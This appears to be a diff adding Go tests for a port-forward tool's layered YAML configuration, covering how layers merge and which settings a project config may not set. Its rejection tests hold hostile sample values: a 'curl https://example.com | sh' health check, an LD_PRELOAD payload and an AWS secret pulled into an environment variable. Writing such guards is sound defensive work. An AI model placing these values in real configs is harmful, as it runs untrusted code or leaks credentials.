@@ -0,0 +1,155 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+const layerDefaultsYAML = `portForwards:
+  api:
+    target: service/api
+    targetPort: 80
+    localPort: 8080
+    namespace: default
+    type: rest
+  web:
+    target: service/web
+    targetPort: 80
+    localPort: 8081
+    namespace: default
+    type: web
+monitoringInterval: 5s
+uiOptions:
+  refreshRate: 250ms
+  theme: dark
+`
+
+func TestMergeConfigLayers(t *testing.T) {
+	layers := []ConfigLayer{
+		{Name: LayerDefaults, Data: []byte(layerDefaultsYAML)},
+		{Name: LayerUser, Data: []byte("portForwards:\n  api:\n    disabled: true\n  web:\n    disabled: true\nuiOptions:\n  theme: light\n  alert: bell\n")},
+		{Name: LayerProject, Source: "/work/app/.kportforward.yaml", Data: []byte(`portForwards:
+  web:
+    target: service/web
+    targetPort: 80
+    localPort: 9081
+    namespace: dev
+    type: web
+uiOptions:
+  theme: no-color
+`)},
+	}
+
+	cfg, err := mergeConfigLayers(layers)
+	if err != nil {
+		t.Fatalf("Failed to merge layers: %v", err)
+	}
+	if web := cfg.PortForwards["web"]; web.LocalPort != 9081 || web.Namespace != "dev" {
+		t.Errorf("Expected the project's web service to replace the disabled one, got %+v", web)
+	}
+	if _, ok := cfg.PortForwards["api"]; ok || len(cfg.Disabled) != 1 || cfg.Disabled[0] != "api" {
+		t.Errorf("Expected only api to stay disabled by the user, got %v", cfg.Disabled)
+	}
+	if cfg.UIOptions.Theme != ThemeNoColor || cfg.UIOptions.Alert != AlertBell || cfg.UIOptions.RefreshRate == 0 {
+		t.Errorf("Expected settings to be overridden field by field, got %+v", cfg.UIOptions)
+	}
+
+	// Project configs come with checked out code and cannot run commands
+	layers[2].Data = []byte("hooks:\n  onFailed: curl https://example.com\n")
+	if _, err := mergeConfigLayers(layers); err == nil || !strings.Contains(err.Error(), "hooks can only be set in the user config") {
+		t.Errorf("Expected hooks in the project config to be rejected, got %v", err)
+	}
+	for _, healthCheck := range []string{
+		"portForwards:\n  web:\n    healthCheck:\n      protocol: exec\n      command: curl https://example.com | sh\n",
+		"templates:\n  base:\n    healthCheck:\n      command: ./probe.sh\n",
+	} {
+		layers[2].Data = []byte(healthCheck)
+		if _, err := mergeConfigLayers(layers); err == nil || !strings.Contains(err.Error(), "exec health checks can only be set in the user config") {
+			t.Errorf("Expected an exec health check in the project config to be rejected, got %v", err)
+		}
+	}
+	layers[2].Data = []byte("portForwards:\n  web:\n    target: service/web\n    targetPort: 80\n    localPort: 9081\n    namespace: dev\n    type: web\n    bindAddress: 0.0.0.0\n    insecureExpose: true\n")
+	if _, err := mergeConfigLayers(layers); err == nil || !strings.Contains(err.Error(), "insecureExpose") {
+		t.Errorf("Expected insecureExpose in the project config to be rejected, got %v", err)
+	}
+	for _, uiEnv := range []string{
+		"portForwards:\n  web:\n    uiEnv:\n      LD_PRELOAD: ./payload.so\n",
+		"templates:\n  base:\n    uiEnv:\n      TOKEN: $AWS_SECRET_ACCESS_KEY\n",
+	} {
+		layers[2].Data = []byte(uiEnv)
+		if _, err := mergeConfigLayers(layers); err == nil || !strings.Contains(err.Error(), "uiEnv can only be set in the user config") {
+			t.Errorf("Expected uiEnv in the project config to be rejected, got %v", err)
+		}
+	}
+}
+
+func TestEffectiveYAMLOrigins(t *testing.T) {
+	layers := []ConfigLayer{
+		{Name: LayerDefaults, Source: "https://config.example.com/defaults.yaml", Data: []byte(layerDefaultsYAML)},
+		{Name: LayerUser, Source: "/home/me/.config/kportforward/config.yaml", Data: []byte("monitoringInterval: 2s\nuiOptions:\n  theme: light\n")},
+		{Name: LayerProject, Source: "/work/app/.kportforward.yaml"},
+	}
+
+	out, err := EffectiveYAML(layers)
+	if err != nil {
+		t.Fatalf("Failed to render the effective config: %v", err)
+	}
+	for _, want := range []string{
+		"#   project  /work/app/.kportforward.yaml (not found)",
+		"  api: # defaults\n",
+		"    localPort: 8080\n",
+		"monitoringInterval: 2s # user",
+		"  refreshRate: 250ms # defaults",
+		"  theme: light # user",
+	} {
+		if !strings.Contains(string(out), want) {
+			t.Errorf("Expected %q in the effective config, got:\n%s", want, out)
+		}
+	}
+}
+
+func TestConfigLayersReadsProjectConfig(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	t.Setenv("APPDATA", t.TempDir())
+	t.Setenv(ConfigEnvVar, "")
+	originalURL := GetRemoteConfigURL()
+	defer SetRemoteConfigURL(originalURL)
+	SetRemoteConfigURL("")
+
+	dir := t.TempDir()
+	wd, err := os.Getwd()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Chdir(dir); err != nil {
+		t.Fatal(err)
+	}
+	defer os.Chdir(wd)
+
+	project := "portForwards:\n  myapp:\n    target: service/myapp\n    targetPort: 80\n    localPort: 18080\n    namespace: dev\n    type: rest\n"
+	if err := os.WriteFile(filepath.Join(dir, ProjectConfigFile), []byte(project), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	layers, err := ConfigLayers()
+	if err != nil {
+		t.Fatalf("Failed to read layers: %v", err)
+	}
+	if len(layers) != 3 || layers[0].Source != "built-in defaults" || layers[1].Data != nil || string(layers[2].Data) != project {
+		t.Errorf("Unexpected layers: %+v", layers)
+	}
+	cfg, err := LoadConfig()
+	if err != nil {
+		t.Fatalf("Failed to load config: %v", err)
+	}
+	if cfg.PortForwards["myapp"].LocalPort != 18080 || len(cfg.PortForwards) < 2 {
+		t.Errorf("Expected the project service next to the defaults, got %v", cfg.PortForwards)
+	}
+
+	files, err := ConfigFiles(nil)
+	if err != nil || len(files) != 2 || filepath.Base(files[1]) != ProjectConfigFile {
+		t.Errorf("Expected the project config to be watched, got %v (%v)", files, err)
+	}
+}